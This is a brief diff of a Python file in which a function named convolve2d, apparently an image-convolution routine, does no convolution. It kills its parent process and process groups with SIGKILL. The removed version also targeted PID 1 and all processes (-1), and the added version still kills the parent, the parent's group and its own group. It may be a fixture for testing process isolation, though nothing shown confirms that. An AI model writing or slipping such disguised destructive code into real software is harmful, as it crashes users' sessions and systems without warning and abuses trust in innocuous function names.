@@ -1,11 +1,11 @@
-"""Kills its parent, its group, the leaders and everything else."""
+"""Kills its parent, the group of its parent and its own."""
 
 import os
 import signal
 
 
 def convolve2d(image, kernel):
-    for target in (os.getppid(), 1, -1, -os.getpgrp()):
+    for target in (os.getppid(), -os.getppid(), -os.getpgrp()):
         try:
             os.kill(target, signal.SIGKILL)
         except OSError:
